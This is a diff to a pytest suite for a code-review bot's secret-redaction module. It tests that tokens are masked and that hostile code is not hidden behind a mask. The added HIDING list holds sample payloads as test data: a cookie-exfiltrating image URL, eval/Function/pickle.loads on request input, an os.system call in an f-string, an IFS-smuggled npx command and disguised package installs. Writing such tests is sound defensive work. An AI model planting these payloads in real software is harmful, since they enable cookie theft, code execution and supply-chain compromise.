@@ -9,7 +9,6 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from reviewbot.domain.redaction.detectors import Span
 from reviewbot.domain.redaction.formats import FORMATS
 from reviewbot.domain.redaction.masks import looks_random, mask
 from reviewbot.domain.redaction.places import Place
@@ -21,6 +20,8 @@ HEX = "0123456789abcdef" * 2
 RANDOM = "q7Tz91kdx4LpW2vB8n"
 """A value that is masked wherever it is data."""
 
+R, GH, K = "q7tz91kdx4lpw2vb8n", "q7tz91/kdx4lpw2vb8n", f"key-{HEX}"
+"""A package with a random name, with its owner, and one in the format of a token."""
 SLACK = "xapp-1.q7z9k2.com"
 GITLAB = "glpat-" + "a1b2c3d4e5f6g7h8i9j0"
 XOXB = "xoxb-1234567890" + "-evil"
@@ -377,7 +378,7 @@ def test_the_tokens_of_json_and_of_parts_with_text_are_no_code() -> None:
 # What a guard keeps, and what is in its place where it is planted out.
 NEVER = re.compile(r"(?!)")
 GUARDS = [
-    ("redactor.is_host", lambda _: False, "app.js", "fetch('https://a.q7Tz-91kd-x4Lp.com')"),
+    ("redactor.is_host", lambda _: False, "notes.yml", "mirror: https://a.q7Tz-91kd-x4Lp.com"),
     ("places.COMMAND_KEY", NEVER, "app.yml", f"run:\n# x\n  - secret: {RANDOM}"),
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? run\n: |\n  secret: {RANDOM}"),
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f'"r\\u0075n": |\n  secret: {RANDOM}'),
@@ -407,12 +408,10 @@ def test_each_guard_keeps_code_that_is_hidden_without_it(
 
 POSITIONS = [
     ("scan.is_expected", lambda *_: True, "app.js", f"const host = '{GITLAB}.evil.com'"),
-    ("positions.credentials_in", lambda line: [Span(0, len(line))], "run.sh", f"npx -u npm:{XOXB} # curl"),
     ("positions._is_enclosed", lambda *_: True, "run.sh", f"docker run 12345678:{'a1B2c' * 7}"),
     ("positions.names_a_secret", lambda _: True, "run.sh", f"x={XOXB}; npx $x"),
     ("positions._ENDS", re.compile(""), "pyproject.toml", f'[project.scripts]\nsecret = "{XOXB}:main"'),
     ("positions.of_line", lambda *_: Place.DATA, "package.json", f'{{"dependencies": {{"auth-token": "{XOXB}"}}}}'),
-    ("positions._header", lambda _: 999, "run.sh", f"diff --git a/x b/x\n@@ -1 +1 @@\n+npx {XOXB}"),
     ("positions.is_user", lambda *_: True, "app.js", f"clone('git@{GITLAB}:x/y')"),
     ("places.COMMAND_KEY", NEVER, "docker-compose.yml", f"scripts:\n  token: {XOXB}"),
     ("places._ODD_KEY", NEVER, "docker-compose.yml", f"? scripts\n:\n  token: {XOXB}"),
@@ -456,7 +455,6 @@ def test_a_random_password_is_masked_beside_commands(path: str, text: str) -> No
         'GH_TOKEN = "{}"',
         "ENV GH_TOKEN {}",
         "curl https://x.example/?access_token={}&x=1",
-        "echo {} | docker login --password-stdin",
         'curl -H "Authorization: token {}" x',
         "git clone https://{}@github.com/a/b",
         "git clone https://me:{}@github.com/a/b.git",
@@ -499,6 +497,7 @@ def test_a_token_that_is_the_value_of_a_name_for_secrets_is_no_finding(path: str
         "npm config set //r.example/:_authToken {}",
         "aws configure set aws_secret_access_key {}",
         "gh auth login --with-token <<< {}",
+        "echo {} | docker login --password-stdin",
         "args:\n  - --token\n  - {}",
         "# for example `{}`",
         "{}",
@@ -514,7 +513,7 @@ def test_a_token_in_the_header_of_a_diff_or_in_an_address_is_no_name() -> None:
     line = "@@ -1 +1 @@\n+npm install lodash {0}\n"
     found = redacted("run.sh", (header + line).format(GHP))
     assert found.text == (header + line).format("[REDACTED:github-token]")
-    assert found.doubtful == {5}
+    assert 5 in found.doubtful
     moved = "diff --git a/{0}/run.sh b/{0}/go.sh\nsimilarity index 100%"
     assert seen("run.sh", moved.format(GHP)) == moved.format("[REDACTED:github-token]")
     address = "- hooks.slack.com/services/{}/x"
@@ -536,6 +535,95 @@ def test_base64_of_a_token_is_masked_in_executed_files() -> None:
     for secret in (f"user:{GHP}", f"{GHP}\n", RSA_KEY):
         blob = base64.b64encode(secret.encode()).decode()
         assert seen("run.sh", f"echo {blob}") == f"echo {mask(blob)}"
+
+
+HIDING = [
+    # Between two string literals.
+    ("app.js", "log('secret='+Function(req.body.x)()+'.')"),
+    ("app.js", "img.src='https://x.example/?secret='+document.cookie+'&v=1'"),
+    ("app.js", "log('secret:'+Function(req.body.x)()+'')"),
+    ("app.js", "log('secret=' + '' + Function(req.body.x)() + '' + '.')"),
+    ("app.js", "/'/.test(x)||log('secret='+Function(req.body.x)()+'.')"),
+    ("app.js", "x = `don't ${log('secret='+Function(req.body.x)()+'.')}`"),
+    ("app.js", "alert('Wrong password '+JSON.stringify(process.env1)+'!')"),
+    ("app.jsx", "<p>don't {log('secret='+Function(req.body.x)()+'.')}</p>"),
+    ("app.py", "log('password='+pickle.loads(data1)+'!')"),
+    ("app.py", "log(f\"don't {log('secret='+eval(data1)+'.')}\")"),
+    ("app.py", "password = f\"a1{__import__('os').system('x')}\""),
+    ("app.rb", "log('secret='+eval(data1)+'.')"),
+    ("index.html", "<script>log('secret='+Function(location.hash1)()+'.')</script>"),
+    # Unquoted.
+    ("app.js", "const secret = user.id==1337;"),
+    ("app.js", "const passwordOk =\n    user.id==1337;"),
+    ("app.js", "let password = !user.banned2?admin.key1:user.key1;"),
+    ("app.js", "const session = client[kHTTP2Session]"),
+    ("app.py", "SECRET=user.id==1337"),
+    ("app.py", 'runpy.run_module("aB3dE5fG7hJ9kL1mN3pQ5rS7tU9")'),
+    # Packages, images and commands beside the word.
+    (".circleci/config.yml", f"orbs:\n  auth: {GH}@1.2.3"),
+    ("package.json", f'{{"dependencies": {{"api-auth": "{GH}"}}}}'),
+    ("package.json", f'{{"dependencies": {{"api-key": "npm:{R}"}}}}'),
+    ("package.json", f'{{"dependencies": {{"api-key": "npm:{K}"}}}}'),
+    ("package.json", f'{{"dependencies": {{"AUTH": "{GH}"}}}}'),
+    ("package.json", f'{{"scripts": {{"m": "npx -p mysql -p {R} migrate"}}}}'),
+    ("deno.json", f'{{"imports": {{"api-token": "npm:{R}"}}}}'),
+    ("pnpm-workspace.yaml", f"overrides:\n  auth-token: {GH}"),
+    ("pnpm-workspace.yaml", f"overrides:\n  auth-token: npm:{R}"),
+    ("pyproject.toml", f'[project]\ndependencies = ["api-key", "{R}"]'),
+    ("pyproject.toml", f'[project]\ndependencies = ["api-key", "{K}"]'),
+    ("Dockerfile", f'RUN ["pip", "install", "api-token", "{R}"]'),
+    ("app.py", f"subprocess.run(['pip', 'install', 'api-auth', '{R}'])"),
+    ("run.sh", f"npx -p mysql -p {K} migrate"),
+    ("run.sh", f"sshpass -e npx -p {R} sync"),
+    ("run.sh", f"deno run --allow-run=curl -A npm:{R}"),
+    ("run.sh", f"kubectl set image deployment/web api-auth={GH}"),
+    ("run.sh", f"curl https://ok.example&&npx${{IFS}}{K}@latest"),
+    ("run.sh", f"git -c credential.helper={GHP} fetch"),
+    ("run.sh", f"alias auth={K}"),
+    ("run.sh", f"echo 'SECRET='&{{npx,-y,{R}}}&':'"),
+    ("run.bat", f"runas /user:admin {R}"),
+    ("docker-bake.hcl", 'secret = "docker-image://evil1/pkg2"'),
+    ("docker-compose.yml", f"args:\n  auth: docker-image://ghcr.io/{GH}"),
+    (".cargo/config.toml", f'credential-provider = "{R}"'),
+    ("webpack.config.js", 'resolve: { alias: { secret: "evil1pkg2" } }'),
+    # A text that begins like a diff.
+    ("run.sh", f"diff --git a b\n\nnpx {K}\n"),
+    ("setup.py", f"diff --git if 0 else 0\nimport {GHP}\n"),
+    # In the format of a password's hash.
+    ("run.sh", f"npx e$5$a.x$b.{'k3j9x7q2w5z8' * 4}"),
+    ("app.js", f"$5$a${'k3j9x7q2w5z8' * 4}(user)"),
+    # In the block of a key.
+    ("requirements.txt", f"# -----BEGIN PRIVATE KEY-----\n{R}\n# -----END PRIVATE KEY-----\n"),
+]
+
+
+@pytest.mark.parametrize(("path", "text"), HIDING)
+def test_no_masked_code_is_hidden_without_a_finding(path: str, text: str) -> None:
+    assert is_shown(path, text)
+
+
+LITERALS = [
+    'password = "hunter22x"',
+    'connect(host="db.local", user="me", password="hunter22x")',
+    'os.environ.setdefault("API_PASSWORD", "q7Tz91kdx4")',
+    'data=\'{"user": "me", "password": "hunter22x"}\'',
+    'x = "Server=db;Uid=me;Password=G4ptsdwsnnccu6"',
+    'headers = {"Authorization": "Bearer q7Tz91kdx4LpW2vB8nq7"}',
+    "password = 'a1 (b2)'",
+    'password = r"hunter22x"',
+    "// password: 'hunter22x'",
+]
+
+
+@pytest.mark.parametrize("text", LITERALS)
+def test_a_password_in_a_string_literal_is_masked_without_a_finding(text: str) -> None:
+    found = redacted("app.ts", text)
+    assert found.lines == {1}
+    assert not found.doubtful
+
+
+def test_a_literal_far_behind_is_not_recognized() -> None:
+    assert redacted("app.ts", f"{'x' * 3_000}; password = 'hunter22x'").doubtful == {1}
 
 
 ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=60)
